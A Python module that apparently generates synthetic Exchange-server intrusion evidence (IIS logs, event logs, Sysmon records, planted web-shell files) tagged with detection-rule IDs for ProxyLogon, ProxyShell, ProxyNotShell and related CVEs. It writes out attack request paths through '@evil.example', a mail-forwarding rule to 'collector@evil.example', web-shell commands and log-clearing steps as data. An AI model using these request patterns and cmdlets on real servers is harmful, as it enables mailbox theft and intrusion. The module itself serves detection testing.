"""Intrusions by the book: what each of them leaves in logs, events and files. An attack gets the world and the time at
which it begins, and says all it does to the truth."""
import events
import logs
import shells
import variation
from logs import Request

CHAIN_CVE = ["CVE-2021-26855", "CVE-2021-27065"]
SSRF, WRITE = ["CVE-2021-26855"], ["CVE-2021-27065"]
PROXYSHELL = ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"]
SECURITY, APPLICATION, SYSTEM = "Security.evtx", "Application.evtx", "System.evtx"
MANAGEMENT = "MSExchange Management.evtx"
SYSMON = "Microsoft-Windows-Sysmon%4Operational.evtx"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
POOL = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -l "webengine4.dll"'
CMD = "C:\\Windows\\System32\\cmd.exe"


def _fqdn(world):
    return f"{world.server.name.lower()}.corp.example"


def _machine(world):
    return f"CORP\\{world.server.name}$"


def _forger(world):
    """What one intruder always does the same way: the script that is not there, his program, how he names the server."""
    rng = world.rng
    return {"script": f"{variation.word(rng, 1, 10)}.js", "agent": rng.choice(variation.AGENTS),
            "host": rng.choice(("a]@", "x]@", "")) + variation.cased(rng, _fqdn(world)) + rng.choice((":444", ":443", "")),
            "hint": rng.choice(("X-BEResource-Cookie", "X-AnonResource-Backend-Cookie"))}


def _forged(world, at, ip, target, how, *, status=200, size=2_000):
    """A request whose cookie says which back end it is for, and all it leaves: rows in three logs."""
    autodiscover = target.startswith("/autodiscover")
    request = Request(at, ip, "POST", f"/ecp/{how['script']}", protocol="Ecp", status=status, backend_status=status,
                      agent=how["agent"], anchor=f"ServerInfo~{how['host']}{target}#", hint=how["hint"],
                      sc_bytes=size, backend_user=_machine(world), backend_stem=target.partition("?")[0],
                      backend_query=target.partition("?")[2], cookie=f"Server~{how['host']}{target}#~1942062522")
    request.mark("front", world.plant("POST to a script that is not there", ["PL-05", "PL-06"], "exploited", cve=SSRF))
    request.mark("proxy", world.plant("forged anchor", ["PL-02" if autodiscover else "PL-01", "PL-04"],
                                      "exploited", cve=SSRF, anchor=request.anchor))
    world.requests.append(request)
    return request


def proxylogon(world, at, stages=7):
    """The chain of CVE-2021-26855 and CVE-2021-27065, up to `stages`, and the page that it writes."""
    rng, ip, how, schema = world.rng, world.stranger(), _forger(world), "msExchEcpCanary=x&schema="
    shell = rng.choice((variation.page_folder(rng), variation.page_folder(rng), "/owa/auth/")) + variation.page_name(rng)
    world.thief = ip, how
    steps = [("/autodiscover/autodiscover.xml", 200),
             (f"/mapi/emsmdb?MailboxId={world.people[0].mailbox}@corp.example", 200),
             ("/ecp/proxyLogon.ecp", 241),
             (f"/ecp/DDI/DDIService.svc/GetObject?{schema}OABVirtualDirectory", 200),
             (f"/ecp/DDI/DDIService.svc/SetObject?{schema}OABVirtualDirectory", 200),
             (f"/ecp/DDI/DDIService.svc/SetObject?{schema}ResetOABVirtualDirectory", 200),
             (f"/ecp/DDI/DDIService.svc/SetObject?{schema}OABVirtualDirectory", 200)][:stages]
    # A tool takes seconds, a person at most some minutes for a step: a chain may not break at 300 s.
    slow, times = rng.choice((1, 4, 30)), [0.0]
    while len(times) < len(steps):
        times.append(times[-1] + rng.uniform(2, 9) * slow)
    for number, (after, (target, status)) in enumerate(zip(times, steps), 1):
        request = _forged(world, at + after, ip, target, how, status=status)
        if number == 3:
            request.marks["front"][0].rules.append("W-11")
        if number == 6:
            request.marks["proxy"][0].rules.append("PL-13")
            request.mark("back", world.plant("reset of the virtual directory at the back end", ["PL-16"], "exploited",
                                             cve=WRITE, actor=world.server.address))
    request.mark("proxy", world.plant("the chain", ["PL-08"], "exploited", cve=CHAIN_CVE, stage=stages, loose=True))
    world.chains.append({"address": ip, "stage": stages, "first": logs.iso(at), "last": logs.iso(at + times[-1]),
                         "cve": CHAIN_CVE if stages > 4 else SSRF})
    if stages >= 5:
        _set_directory(world, at + times[4] + 0.3, ip)
    if stages >= 6:
        _reset_directory(world, at + times[5] + 0.4, shell)
        world.shell = shell


def _set_directory(world, at, ip):
    """The URL is set: Exchange's own logs say so."""
    url, which = shells.external_url(variation.word(world.rng, 1, 12)), world.rng.choice(("ExternalUrl", "InternalUrl"))
    quoted = url.replace('"', '""')
    world.ecp.append((at, logs.ecp_data(f"Set-OabVirtualDirectory.{which}=''{url}''.Identity=''7f9c2d11-OAB''"), [
        world.plant("a page as URL", ["PL-14"], "exploited", cve=WRITE, actor=ip)]))
    world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at, events.cmdlet(
        "Set-OabVirtualDirectory", f'-{which} "{quoted}" -Identity "{world.server.name}\\OAB (Default Web Site)"'), [
            world.plant("a page as URL", ["PL-15"], "exploited", cve=WRITE)])


def _reset_directory(world, at, shell):
    """The reset writes the file: Remove, then New, and the page is there."""
    folder = world.c("inetpub/wwwroot")
    path = folder + shell if not shell.startswith("/owa/auth") else world.ex("FrontEnd/HttpProxy" + shell)
    windows = world.windows(path)
    for after, name in ((0, "Remove-OabVirtualDirectory"), (3, "New-OabVirtualDirectory")):
        world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at + after, events.cmdlet(
            name, f'-Identity "{world.server.name}\\OAB (Default Web Site)" -Force'), [world.trace(name)])
    world.event(SYSMON, events.SYSMON_FILE, at + 2, events.sysmon_file(W3WP, windows, logs.iso(at)[:-1].replace("T", " ")), [
        world.trace("the page is written")])
    place = "F-01" if "/aspnet_client/" in path else "F-02"
    world.put(path, shells.oab_dump(server=world.server.name), at + 2, [
        world.plant("properties of an OAB virtual directory with a page in them", ["PL-17", place], "exploited", cve=WRITE)])


def mail_theft(world, at, count=120):
    """SOAP through the forged anchor: one mailbox after the other is read, by whoever broke in last."""
    (ip, how), victims, total = world.thief, world.people[1:4], 0
    how = how | {"agent": "ExchangeServicesClient/0.0.0.0", "script": f"{variation.word(world.rng, 1, 3)}.js"}
    for index in range(count):
        victim = victims[index * len(victims) // count]
        first = index * len(victims) // count != (index - 1) * len(victims) // count
        target = f"/mapi/emsmdb?MailboxId={victim.mailbox}@corp.example" if first else "/EWS/Exchange.asmx?a=~1942062522"
        size = 2_000 if first else world.rng.randrange(400_000, 900_000)
        total += 0 if first else size
        request = _forged(world, at + index * 20, ip, target, how, size=size)
        request.marks["proxy"][0].rules.append("PL-18")
    request.mark("proxy", world.plant("mail read over EWS", ["PL-07", "W-01"], "exploited", cve=SSRF, loose=True, bytes=total))
    world.stolen.append({"address": ip, "bytes": total, "how": "EWS",
                         "mailboxes": [{"guid": one.mailbox, "smtp": one.smtp} for one in victims]})


def unified_messaging(world, at):
    """CVE-2021-26857 and -26858: Unified Messaging is made to run code; the OAB generator writes where it must not."""
    world.event(APPLICATION, events.UM_ERROR, at, [
        "corp.example/UM/Mailbox", "System.InvalidCastException: Unable to cast object of type 'System.Collections.Hashtable' "
        "to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'."], [
            world.plant("Unified Messaging breaks on what it was given", ["PL-09"], "exploited", cve=["CVE-2021-26857"])])
    worker = world.windows(world.ex("bin/UMWorkerProcess.exe"))
    world.event(SECURITY, events.PROCESS_CREATED, at + 1, events.process(CMD, "cmd.exe /c whoami", worker), [
        world.plant("a child of UMWorkerProcess", ["PL-10"], "exploited", cve=["CVE-2021-26857"])])
    world.event(SYSMON, events.SYSMON_PROCESS, at + 1, events.sysmon_process(CMD, "cmd.exe /c whoami", worker, worker, "-"), [
        world.plant("a child of UMWorkerProcess", ["PL-10"], "exploited", cve=["CVE-2021-26857"])])
    report = "ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_UMWorkerProcess_5f3a9c1b/Report.wer"
    world.put(world.c(report), ("Version=1\r\nEventType=CLR20r3\r\nSig[0].Name=Problem Signature 01\r\n"
                                "Sig[0].Value=UMWorkerProcess.exe\r\nSig[8].Value=System.InvalidCastException\r\n").encode("utf-16"), at + 3, [world.trace("the crash")])
    page = world.windows(world.ex("FrontEnd/HttpProxy/owa/auth/um.aspx"))
    world.event(SYSMON, events.SYSMON_FILE, at + 2, events.sysmon_file(worker, page, "-"), [
        world.plant("UMWorkerProcess writes a page", ["PL-11"], "exploited", cve=["CVE-2021-26858"])])
    for place in (world.c("inetpub/wwwroot/aspnet_client/help.aspx"), world.ex("FrontEnd/HttpProxy/owa/auth/help.aspx")):
        target = variation.spelled(world.rng, world.windows(place))
        world.oab.append((at + 30, f"Download failed and temporary file '{target}' needs to be removed.", [
            world.plant("the OAB generator wrote a page", ["PL-12"], "exploited", cve=["CVE-2021-26858"], lead=target)]))


def proxyshell(world, at):
    """CVE-2021-34473, -34523, -31207: Autodiscover as a door to the back end's PowerShell; a mailbox becomes a page."""
    rng, ip, agent = world.rng, world.stranger(), world.rng.choice(variation.AGENTS)
    email = "&Email=autodiscover/autodiscover.json%3F@evil.example"
    token = "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTA9hZG1pbkBjb3Jw"
    for after, method, query, status in ((0, "GET", f"@evil.example/mapi/nspi?{email}", 302),
                                         (3, "POST", f"@evil.example/mapi/emsmdb?{email}", 200),
                                         (9, "POST", f"@evil.example/PowerShell?{token}{email}", 200),
                                         (12, "POST", f"%40evil.example/%50owerShell?{token}{email}", 200),
                                         (13, "POST", f"%252540evil.example/%252550OWERSHELL;x=1?{token}{email}", 200)):
        target = "/PowerShell" if "X-Rps" in query else query.partition("?")[0].replace("@evil.example", "")
        request = Request(at + after, ip, method, variation.cased(rng, "/autodiscover/autodiscover.json"), status=status,
                          query=variation.encoded(rng, query), protocol="Autodiscover", agent=agent, cs_bytes=1_900,
                          backend_user=_machine(world), backend_stem=target)
        request.mark("front", world.plant("Autodiscover as a door", ["PS-01"], "exploited", cve=["CVE-2021-34473"]))
        request.mark("proxy", world.plant("Autodiscover as a door", ["PS-02"], "exploited", cve=["CVE-2021-34473"]))
        world.requests.append(request)
    world.rps.append((at + 9.2, {"UrlStem": "/powershell", "UrlQuery": token, "HttpStatus": 200, "ClientIpAddress": ip,
                                 "AuthenticatedUser": "corp.example\\Administrator", "ClientInfo": "Microsoft WinRM Client"}, [
        world.plant("a forged token opened PowerShell", ["PS-03"], "exploited", cve=["CVE-2021-34523"], actor=ip)]))
    folder, names = variation.page_folder(rng), (variation.page_name(rng), variation.page_name(rng))
    pst, certificate = (variation.share(rng, world.server.name, folder, name) for name in names)
    world.shell = folder + names[0]
    for after, name, parameters, rules, tier in (
            (20, "New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "administrator@corp.example"', ["PS-05"], "exploited"),
            (40, "New-MailboxExportRequest", f'-Mailbox "administrator@corp.example" -IncludeFolders ("#Drafts#") -FilePath "{pst}"',
             ["PS-04"], "exploited"),
            (90, "New-ExchangeCertificate", f'-GenerateRequest "True" -RequestFile "{certificate}" -SubjectName "CN=made.for.tests"',
             ["PS-06"], "exploited"),
            (300, "Remove-MailboxExportRequest", '-Identity "x\\y" -Confirm "False"', ["PS-07"], "hunt")):
        world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at + after, events.cmdlet(name, parameters), [
            world.plant(name, rules, tier, cve=["CVE-2021-31207"])])
        world.cmdlets.append((at + after, {"Cmdlet": name, "Parameters": parameters, "ExecutionResult": "Success",
                                           "AuthenticatedUser": "corp.example\\Administrator"}, [world.trace(name)]))
    for name, octets in zip(names, (shells.in_pst(), shells.in_der())):
        world.put(world.c(f"inetpub/wwwroot{folder}{name}"), octets, at + 45, [
            world.plant("a page with another file's head", ["PS-08", "F-01"], "exploited", cve=["CVE-2021-31207"])])
    hidden = world.c("ProgramData/COM1/zing/made.aspx")
    world.put(hidden, shells.in_pst(), at + 50, [world.plant("a page behind a reserved name", ["PS-08"], "exploited")])
    world.virtual_directories.append(("/zing", "C:\\ProgramData\\COM1\\zing", world.plant(
        "a virtual directory in ProgramData", ["PS-09"], "exploited")))
    world.chains.append({"address": ip, "stage": "proxyshell", "first": logs.iso(at), "last": logs.iso(at + 300), "cve": PROXYSHELL})


def proxynotshell(world, at):
    """CVE-2022-41040 and -41082: the same door with a stolen account; then OWASSRF by way of /owa."""
    ip = world.stranger()
    account = world.people[2].account
    for after, method in ((0, "GET"), (5, "POST"), (9, "POST")):
        request = Request(at + after, ip, method, "/autodiscover/autodiscover.json", query=variation.encoded(
            world.rng, "a=a@evil.example/PowerShell/?Email=autodiscover/autodiscover.json%3Fa=a@evil.example"),
                          status=200, user=account, protocol="Autodiscover", agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                          cs_bytes=6_000)
        request.mark("front", world.plant("the door, with an account", ["PN-01", "PS-01"], "exploited", cve=["CVE-2022-41040"],
                                          account=account))
        world.requests.append(request)
    world.rps.append((at + 9.5, {"UrlStem": "/powershell", "HttpStatus": 200, "ClientIpAddress": ip, "AuthenticatedUser": account,
                                 "ClientInfo": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}, [
        world.plant("PowerShell from a program of its own", ["PN-03"], "exploited", cve=["CVE-2022-41082"], actor=ip)]))
    world.event(SECURITY, events.PROCESS_CREATED, at + 12, events.process(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -c whoami", W3WP), [
            world.plant("PowerShell below w3wp", ["F-16"], "exploited", cve=["CVE-2022-41082"])])
    world.chains.append({"address": ip, "stage": "proxynotshell", "first": logs.iso(at), "last": logs.iso(at + 12),
                         "cve": ["CVE-2022-41040", "CVE-2022-41082"]})


def owassrf(world, at):
    """CVE-2022-41080: the same by way of /owa, which the rewrite rule does not see."""
    ip = world.stranger()
    account = world.people[3].account
    for after, status in ((0, 401), (4, 200), (9, 200)):
        stem = world.rng.choice(("/owa/mastermailbox%40outlook.com/powershell", "/owa/x@corp.example/PowerShell",
                                 "/OWA/a%40b.example/powershell"))
        request = Request(at + after, ip, "POST", stem, status=status, protocol="Owa",
                          user=account if status == 200 else "", agent="python-requests/2.28.1", cs_bytes=5_000)
        if status == 200:
            request.mark("front", world.plant("PowerShell by way of OWA", ["PN-02"], "exploited", cve=["CVE-2022-41080"],
                                              account=account))
        world.requests.append(request)
    world.rps.append((at + 9.5, {"UrlStem": "/powershell", "HttpStatus": 200, "ClientIpAddress": ip, "AuthenticatedUser": account,
                                 "ClientInfo": "python-requests/2.28.1"}, [
        world.plant("PowerShell from a program of its own", ["PN-03"], "exploited", cve=["CVE-2022-41082"], actor=ip)]))


def other_holes(world, at):
    """CVE-2020-0688, ProxyToken, CVE-2021-42321."""
    ip = world.stranger()
    state = "/wEyhAYAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs"
    world.requests += [
        Request(at, ip, "GET", "/ecp/default.aspx", query=f"__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={state}", status=500,
                protocol="Ecp", user=world.people[4].account, agent="Mozilla/5.0").mark("front", world.plant(
                    "a view state in a query", ["K-01"], "exploited", cve=["CVE-2020-0688"])),
        Request(at + 600, ip, "POST", "/ecp/a.brandt@corp.example/RulesEditor/InboxRules.svc/NewObject", status=200, protocol="Ecp",
                query="msExchEcpCanary=x", agent="Mozilla/5.0").mark("front", world.plant(
                    "a rule in somebody else's mailbox", ["K-02"], "exploited", cve=["CVE-2021-33766"]))]
    world.event(APPLICATION, events.ECP_ERROR, at + 0.1, [
        "corp.example/Users/x", f"https://{world.server.host}/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={state}",
        "System.Web.HttpUnhandledException"], [world.plant("the control panel breaks on a view state", ["K-01"], "exploited",
                                                          cve=["CVE-2020-0688"])])
    world.event(MANAGEMENT, events.CMDLET_SUCCEEDED, at + 601, events.cmdlet(
        "New-InboxRule", '-Mailbox "a.brandt@corp.example" -Name "x" -ForwardTo "collector@evil.example"'), [world.trace("a rule that forwards mail")])
    world.event(MANAGEMENT, events.CMDLET_FAILED, at + 1200, events.cmdlet(
        "Get-App", "-Mailbox x", error="Cmdlet failed. Cmdlet Get-App, parameters -Mailbox x."), [
            world.plant("Get-App broke", ["K-03"], "exploited", cve=["CVE-2021-42321"])])
    world.event(MANAGEMENT, events.CMDLET_BROKE, at + 1201, events.cmdlet(
        "Get-App", "-Mailbox x", error="Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast"), [
            world.plant("Get-App threw", ["K-03"], "exploited", cve=["CVE-2021-42321"])])


def shell_use(world, at):
    """Somebody works through the page that was planted last: commands in the body, one in the query."""
    ip, url = world.stranger(), world.shell
    world.shell_uses += 1
    agent, protocol = f"antSword/v2.{1 + world.shell_uses}", "Owa" if url.startswith("/owa") else ""
    for index in range(40):
        request = Request(at + index * 17, ip, "POST", url, protocol=protocol, agent=agent, cs_bytes=1_200,
                          sc_bytes=world.rng.randrange(300, 9_000))
        if index == 0:
            request.mark("front", world.plant("first touch of a page nobody else asks for", ["W-08", "W-07"], "hunt"))
            request.mark("front", world.plant("a page that one address asks for", ["W-03"], "hunt", loose=True))
        world.requests.append(request)
    command = Request(at + 800, ip, "GET", url, query="exec=whoami+/all", protocol=protocol, agent=agent)
    world.requests.append(command.mark("front", world.plant("a command in the query", ["W-10"], "hunt")))
    for after, command in ((20, 'cmd.exe /c cd /d "C:\\\\inetpub\\\\wwwroot\\\\aspnet_client"&whoami&echo [S]&cd&echo [E]'),
                           (60, "cmd.exe /c net group \"Exchange Organization administrators\" administrator /del /domain")):
        world.event(SECURITY, events.PROCESS_CREATED, at + after, events.process(CMD, command, W3WP), [
            world.plant("a command line below w3wp", ["F-16"], "exploited")])
        world.event(SYSMON, events.SYSMON_PROCESS, at + after, events.sysmon_process(CMD, command, W3WP, POOL, "-"), [
            world.plant("a command line below w3wp", ["F-16"], "exploited")])
    world.event(SECURITY, events.PROCESS_CREATED, at + 300, events.process(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-MailboxExportRequest", CMD), [
            world.plant("the Exchange snap-in from PowerShell", ["F-18"], "attempt")])


def tunnel(world, at):
    """A page as a way into the inner network: hundreds of small requests."""
    ip, url = world.stranger(), "/aspnet_client/" + variation.page_name(world.rng)
    for index in range(260):
        verb = ("connect" if index == 0 else "read" if index % 2 else "forward")
        request = Request(at + index * 1.7, ip, "POST", url, agent="Mozilla/5.0 (compatible; MSIE 9.0)", cs_bytes=150,
                          query=f"cmd={verb}" + ("&target=10.1.0.9&port=3389" if index == 0 else ""),
                          sc_bytes=world.rng.randrange(8_000, 40_000) if index % 2 else 120)
        if index == 0:
            request.mark("front", world.plant("a tunnel is opened", ["W-09"], "exploited", loose=True))
        world.requests.append(request)
    world.put(world.c("inetpub/wwwroot" + url), shells.base64_loader(), at - 60, [
        world.plant("a page that is a tunnel", ["F-01"], "exploited")])


def quiet_shell(world, at):
    """A page that is used without anything that a rule on rows names, and that is not on the disk any more. Somebody else had
    looked for it in vain."""
    ip, url = world.stranger(), "/aspnet_client/" + variation.word(world.rng, 6, 10) + ".aspx"
    world.requests.append(Request(at - 86_400, world.stranger(), "GET", url, status=404, agent="Mozilla/5.0 (X11)"))
    for index in range(25):
        request = Request(at + index * 31, ip, "POST", url, agent="Mozilla/5.0 (Windows NT 6.1) made/1", cs_bytes=1_500,
                          sc_bytes=world.rng.randrange(300, 9_000))
        if index == 0:
            request.mark("front", world.plant("a page that was not there, and now answers", ["W-03", "W-04", "W-11"], "hunt"))
        world.requests.append(request)
    url = "/owa/auth/" + variation.word(world.rng, 6, 10) + ".ashx"
    request = Request(at + 3_600, world.stranger(), "POST", url, protocol="Owa", agent="Mozilla/5.0 (Windows NT 6.1) made/2")
    world.requests.append(request.mark("front", world.plant("the first touch of a page", ["W-03", "W-04", "W-08"], "hunt")))


def quiet_tunnel(world, at):
    """A page as a way into the inner network, whose words are in the bodies: what is left is how often, and how large."""
    ip, url = world.stranger(), "/aspnet_client/" + variation.word(world.rng, 6, 10) + ".aspx"
    for index in range(420):
        request = Request(at + index * 1.3, ip, "POST", url, agent="Mozilla/5.0 (Windows NT 6.1)", cs_bytes=world.rng.randrange(200, 900),
                          sc_bytes=world.rng.randrange(8_000, 40_000) if index % 2 else world.rng.randrange(90, 200))
        if index == 0:
            request.mark("front", world.plant("a tunnel, by its rate", ["W-09"], "hunt", loose=True))
        world.requests.append(request)


def download(world, at):
    """A stolen account: somebody reads a mailbox in one night, as its owner could."""
    ip, person = world.stranger(), world.people[5]
    for index in range(150):
        request = Request(at + index * 12, ip, "POST", "/EWS/Exchange.asmx", user=person.account, agent="Mozilla/5.0 (Windows NT 10.0)",
                          protocol="Ews", anchor=person.smtp, hint="WindowsIdentity", cs_bytes=1_800,
                          sc_bytes=world.rng.randrange(500_000, 900_000), backend_user=person.account)
        world.requests.append(request)
    request.mark("proxy", world.plant("a mailbox in one night", ["W-01"], "hunt", loose=True))


def hunt(world, at):
    """Somebody looks for pages that others may have planted, and one answers."""
    ip = world.stranger()
    for index, name in enumerate(("help", "discover", "shell", "web", "one", "iisstart", "t", "log")):
        found = name == "one"
        request = Request(at + index * 4, ip, "GET", f"/aspnet_client/{name}.aspx", status=200 if found else 404, agent="Mozilla/5.0")
        if index == 0:
            request.mark("front", world.plant("a search for shells", ["W-05"], "hunt", loose=True))
        if found:
            request.mark("front", world.plant("what it found", ["W-03", "W-04"], "hunt"))
        world.requests.append(request)


def failures(world, at):
    """The control panel breaks on what somebody sends it."""
    ip = world.stranger()
    for index in range(40):
        request = Request(at + index * 11, ip, "GET", "/ecp/PersonalSettings/HomePage.aspx", query=f"x={index}", status=500,
                          protocol="Ecp", agent="Mozilla/5.0 (Windows NT 10.0)")
        if index == 0:
            request.mark("front", world.plant("the control panel fails suddenly", ["W-11"], "hunt", loose=True))
        world.requests.append(request)


def oddities(world, at):
    """Single requests that only somebody makes who is in: a machine account from outside, a POST to a picture, a page
    that is gone, an archive that is fetched."""
    ip = world.stranger()
    world.requests += [
        Request(at, ip, "POST", "/EWS/Exchange.asmx", user=_machine(world), protocol="Ews", agent="python-requests/2.25.1",
                hint="WindowsIdentity").mark("front", world.plant("the server's own account from outside", ["W-06"], "attempt")),
        Request(at + 60, ip, "POST", "/aspnet_client/system_web/logo.png", agent="Mozilla/5.0").mark(
            "front", world.plant("POST to a picture", ["W-02"], "attempt")),
        Request(at + 120, ip, "POST", "/aspnet_client/gone.aspx", agent="Mozilla/5.0 (X11)", sc_bytes=900).mark(
            "front", world.plant("a page that is not on the disk", ["W-04"], "attempt")),
        Request(at + 180, ip, "GET", "/aspnet_client/system_web/backup.png", agent="curl/7.68.0", sc_bytes=48_000_000, took=70_000)]
    _forged(world, at + 240, ip, "/EWS/Exchange.asmx?a=1,2,\"3\"", _forger(world))


def wiped(world, at):
    """The intruder clears event logs; what the logs of the web server say of these hours is gone too."""
    who = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY", "SubjectLogonId": 0x3e7}
    world.event(SECURITY, events.SECURITY_CLEARED, at, who, [world.plant("the security log was cleared", ["F-17"], "attempt")])
    world.event(SYSTEM, events.LOG_CLEARED, at + 2, {"SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
                                                      "Channel": "Application", "BackupPath": ""}, [
        world.plant("a log was cleared", ["F-17"], "attempt")])
    hours = (int(at) // 3600 * 3600 - 4 * 3600, int(at) // 3600 * 3600)
    world.gaps.append(hours)
    world.plant("hours without any row", ["F-17"], "hunt", at=logs.iso(hours[0]), hours=[logs.iso(one) for one in hours],
                loose=True).place(f"{world.iis_logs}/W3SVC1")
    world.leaps[MANAGEMENT] = (at + 5, world.plant("records of an event log are missing", ["F-17"], "hunt", loose=True))
    world.logging_off = world.plant("IIS is told to log nothing", ["F-14"], "attempt")
